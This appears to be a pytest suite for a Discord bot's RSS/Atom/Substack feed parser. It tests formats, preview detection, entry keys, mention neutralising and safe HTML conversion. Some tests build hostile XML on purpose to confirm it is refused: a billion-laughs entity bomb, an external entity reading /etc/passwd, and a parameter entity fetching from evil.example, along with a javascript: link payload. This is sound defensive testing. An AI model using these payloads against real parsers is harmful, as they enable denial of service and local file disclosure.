"""The parser: formats, Substack specifics, hostile XML, safe text, stable keys."""

from __future__ import annotations

import tracemalloc
from datetime import UTC, datetime
from pathlib import Path

import pytest

from bot.feeds import parse_feed
from bot.feeds.errors import HostileFeed, NotAFeed
from bot.feeds.html_text import html_to_text
from bot.feeds.parse import entry_key, parse_feed_sync
from bot.feeds.text import ZWSP, neutralise_mentions, truncate
from tests.feeds.support import fixture_bytes


def _rss(items: str, title: str = "Test Outlet") -> bytes:
    return (
        '<?xml version="1.0"?><rss version="2.0" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
        f"<title>{title}</title><link>https://outlet.example/</link>{items}</channel></rss>"
    ).encode()


async def test_rss20() -> None:
    feed = await parse_feed(fixture_bytes("rss20.xml"))
    assert feed.version == "rss20"
    assert feed.title == "Seoul Sound Notes"
    assert [e.key for e in feed.entries] == [
        "id:seoulsound-0003",
        "id:seoulsound-0002",
        "id:seoulsound-0001",
    ]
    first = feed.entries[0]
    assert first.title == 'Review: Lantern Bloom, "Night Garden"'
    assert first.published == datetime(2024, 1, 3, 0, 0, tzinfo=UTC)
    assert first.published.tzinfo is UTC
    assert first.author == "editor@seoulsound.example (Min Park)"
    assert first.summary_markdown == (
        "A **lush** second EP that trades bright synths for *strings*. "
        "[More on Lantern Bloom](https://seoulsound.example/tag/lantern-bloom)"
    )
    assert first.summary_text == (
        "A lush second EP that trades bright synths for strings. More on Lantern Bloom"
    )
    assert not first.is_preview


async def test_atom() -> None:
    feed = await parse_feed(fixture_bytes("atom.xml"))
    assert feed.version == "atom10"
    assert feed.title == "Idol Liner Review"
    first, second = feed.entries
    assert first.title == "Five B-sides worth your time"
    assert first.author == "Jo Han"
    assert first.link == "https://idolliner.example/2024/02/b-sides"
    assert first.published == datetime(2024, 2, 2, 10, 0, tzinfo=UTC)
    assert "**The list**" in first.summary_markdown
    assert "• **Track one** opens quietly\n• Track two does not" in first.summary_markdown
    assert "[notes](https://idolliner.example/notes)" in first.summary_markdown
    assert "alert" not in first.summary_markdown
    # Only <updated>: used as the date, converted to UTC.
    assert second.published == datetime(2024, 1, 31, 23, 30, tzinfo=UTC)
    assert second.summary_text == "Who returns this month."


async def test_rss10() -> None:
    feed = await parse_feed(fixture_bytes("rss10.rdf"))
    assert feed.version == "rss10"
    (entry,) = feed.entries
    assert entry.key == "id:https://kpopzine.example/r/1"
    assert entry.author == "Lee Seo"
    assert entry.published == datetime(2023, 12, 24, 9, 0, tzinfo=UTC)


async def test_rss091_is_a_feed() -> None:
    data = (
        b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"'
        b' "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel>'
        b"<title>Old</title><link>https://old.example/</link><description>d</description>"
        b"<item><title>One</title><link>https://old.example/1</link></item></channel></rss>"
    )
    feed = await parse_feed(data)
    assert feed.version.startswith("rss09")
    assert feed.entries[0].key == "url:https://old.example/1"


async def test_korean_album_brackets_survive() -> None:
    data = _rss(
        "<item><title>IU &lt;Love wins all&gt; review</title><link>https://o.example/iu</link>"
        "<description>A close listen to IU &lt;Love wins all&gt; and its &lt;b&gt;bridge&lt;/b&gt;"
        "</description></item>"
    )
    (entry,) = (await parse_feed(data)).entries
    assert entry.title == "IU <Love wins all> review"
    assert entry.summary_text == "A close listen to IU <Love wins all> and its bridge"
    assert entry.summary_markdown == (r"A close listen to IU \<Love wins all\> and its **bridge**")


async def test_substack_free_post_preview_and_image() -> None:
    feed = await parse_feed(fixture_bytes("substack.xml"))
    assert feed.title == "Bias Wrecker Weekly"
    free, paid, teaser = feed.entries
    assert free.author == "Ana Kwon"
    assert free.image_url == (
        "https://substack-post-media.s3.amazonaws.com/public/images/static-hearts.jpeg"
    )
    assert free.summary_text == "A free post about a very good bridge"
    # The paywall-jump node sits in full posts too: not a preview.
    assert not free.is_preview
    assert paid.is_preview
    assert teaser.is_preview
    # No subtitle: the summary comes from content:encoded.
    assert teaser.summary_text.startswith("A short preview.")


async def test_paid_category_marks_a_preview() -> None:
    data = _rss(
        "<item><title>T</title><link>https://o.example/p/t</link><category>Paid</category>"
        "<description>teaser</description></item>"
    )
    (entry,) = (await parse_feed(data)).entries
    assert entry.is_preview


@pytest.mark.parametrize(
    "body",
    [
        b"<!doctype html><html><head><title>Blog</title></head><body><p>Hi</p></body></html>",
        b'{"version": "https://jsonfeed.org/version/1", "items": []}',
        b"\x89PNG\r\n\x1a\n\x00\x00garbage",
        b"",
        b"/etc/passwd",
        b"just some words",
    ],
)
async def test_not_a_feed(body: bytes) -> None:
    with pytest.raises(NotAFeed, match="not an RSS or Atom feed"):
        await parse_feed(body)


def _billion_laughs(levels: int = 10) -> bytes:
    ents = ['<!ENTITY lol0 "lol">']
    for i in range(1, levels):
        ents.append(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">')
    return (
        f'<?xml version="1.0"?><!DOCTYPE rss [{"".join(ents)}]><rss version="2.0"><channel>'
        f"<title>&lol{levels - 1};</title><item><title>&lol{levels - 1};</title></item>"
        "</channel></rss>"
    ).encode()


async def test_billion_laughs_is_refused_without_expanding() -> None:
    tracemalloc.start()
    try:
        with pytest.raises(HostileFeed, match="entities"):
            await parse_feed(_billion_laughs())
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 5 * 1024 * 1024


async def test_billion_laughs_in_utf16_is_refused() -> None:
    data = _billion_laughs().decode().replace('<?xml version="1.0"?>', "")
    with pytest.raises(HostileFeed):
        await parse_feed(b"\xff\xfe" + data.encode("utf-16-le"))


async def test_external_entity_is_refused() -> None:
    data = (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<rss version="2.0"><channel><title>&xxe;</title></channel></rss>'
    )
    with pytest.raises(HostileFeed):
        await parse_feed(data)


async def test_parameter_entity_is_refused() -> None:
    data = (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://evil.example/x">'
        b'%remote;]><rss version="2.0"><channel><title>x</title></channel></rss>'
    )
    with pytest.raises(HostileFeed):
        await parse_feed(data)


async def test_the_word_entity_in_content_is_fine() -> None:
    data = _rss(
        "<item><title>On &lt;!ENTITY&gt; declarations</title><link>https://o.example/e</link>"
        "<description><![CDATA[<p>Write <!ENTITY x> in prose.</p>]]></description></item>"
    )
    (entry,) = (await parse_feed(data)).entries
    assert entry.title == "On <!ENTITY> declarations"


async def test_deep_nesting_is_harmless() -> None:
    depth = 20_000
    html = "<div>" * depth + "deep" + "</div>" * depth
    data = _rss(
        f"<item><title>Deep</title><link>https://o.example/d</link>"
        f"<description><![CDATA[{html}]]></description></item>"
    )
    feed = await parse_feed(data)
    assert len(feed.entries) <= 1
    nested_xml = b"<rss version='2.0'><channel>" + b"<x>" * depth + b"</x>" * depth
    nested_xml += b"</channel></rss>"
    await parse_feed(nested_xml)  # any outcome but a crash


async def test_mentions_are_neutralised_everywhere() -> None:
    data = _rss(
        "<item><title>@everyone new review for &lt;@123456&gt; and @here</title>"
        "<link>https://o.example/m</link><author>x@example.org (&lt;@&amp;987&gt;)</author>"
        "<description>&lt;p&gt;ping &lt;#555&gt; @everyone &lt;@!42&gt;&lt;/p&gt;</description>"
        "</item>",
        title="@here Outlet",
    )
    feed = await parse_feed(data)
    (entry,) = feed.entries
    for text in (entry.title, entry.author or "", entry.summary_text, entry.summary_markdown):
        assert "@everyone" not in text
        assert "@here" not in text
        assert "<@" not in text
        assert "<#" not in text
    assert f"@{ZWSP}everyone" in entry.title
    assert f"<{ZWSP}@123456>" in entry.title
    assert "@here" not in feed.title


def test_neutralise_mentions_keeps_plain_text() -> None:
    assert neutralise_mentions("mail me at a@b.c, 5 < 6") == "mail me at a@b.c, 5 < 6"
    assert neutralise_mentions("@EVERYONE") == f"@{ZWSP}EVERYONE"


async def test_keys_are_stable_and_fall_back() -> None:
    data = _rss(
        "<item><title>A</title><guid>guid-a</guid><link>https://o.example/a</link></item>"
        "<item><title>B</title><link>HTTPS://O.Example/b?utm_source=x&amp;p=1#frag</link></item>"
        "<item><title>C</title><pubDate>Mon, 01 Jan 2024 00:00:00 GMT</pubDate></item>"
    )
    first = await parse_feed(data)
    second = await parse_feed(data)
    assert [e.key for e in first.entries] == [e.key for e in second.entries]
    a, b, c = first.entries
    assert a.key == "id:guid-a"
    assert b.key == "url:https://o.example/b?p=1"
    assert c.key.startswith("sha256:")
    moved = _rss(
        "<item><title>B</title><link>https://o.example/b?p=1&amp;utm_medium=y</link></item>"
    )
    assert (await parse_feed(moved)).entries[0].key == b.key


async def test_relative_guid_is_not_resolved_but_links_are() -> None:
    data = _rss("<item><title>R</title><guid>post-12</guid><link>/p/12</link></item>")
    (entry,) = (await parse_feed(data, base_url="https://moved.example/feed")).entries
    assert entry.key == "id:post-12"
    assert entry.link == "https://moved.example/p/12"


def test_entry_key_hashes_very_long_ids() -> None:
    key = entry_key("x" * 5000, None, "t", None)
    assert len(key) < 100
    assert key == entry_key("x" * 5000, None, "other", None)


async def test_titles_and_summaries_are_cut_to_discord_limits() -> None:
    long_title = "word " * 100
    long_body = "<p>" + "sentence with words. " * 400 + "</p>"
    data = _rss(
        f"<item><title>{long_title}</title><link>https://o.example/l</link>"
        f"<description><![CDATA[{long_body}<p><b>bold</b></p>]]></description></item>"
    )
    (entry,) = (await parse_feed(data)).entries
    assert len(entry.title) <= 256
    assert entry.title.endswith("…")
    assert not entry.title.endswith(" …")
    assert len(entry.summary_markdown) <= 4096
    assert len(entry.summary_text) <= 4096
    assert entry.summary_markdown.endswith("…")
    assert entry.summary_markdown.count("**") % 2 == 0


def test_truncate_cuts_at_a_word_boundary() -> None:
    assert truncate("short", 10) == "short"
    assert truncate("alpha beta gamma delta", 12) == "alpha beta…"
    assert len(truncate("x" * 50, 10)) == 10


def test_html_conversion_is_safe() -> None:
    converted = html_to_text(
        '<p>Go <a href="javascript:alert(1)">here</a> or <a href="https://ok.example/(x)">'
        "there</a></p><style>p{}</style><p>*stars* _under_ `tick` # hash</p>"
    )
    assert "javascript" not in converted.markdown
    assert "[there](https://ok.example/%28x%29)" in converted.markdown
    assert r"\*stars\* \_under\_ \`tick\`" in converted.markdown
    assert "p{}" not in converted.text


async def test_bytes_that_look_like_a_path_are_not_opened(tmp_path: Path) -> None:
    path = tmp_path / "secret.xml"
    path.write_bytes(_rss("<item><title>secret</title><link>https://o.example/s</link></item>"))
    with pytest.raises(NotAFeed):
        parse_feed_sync(str(path).encode())
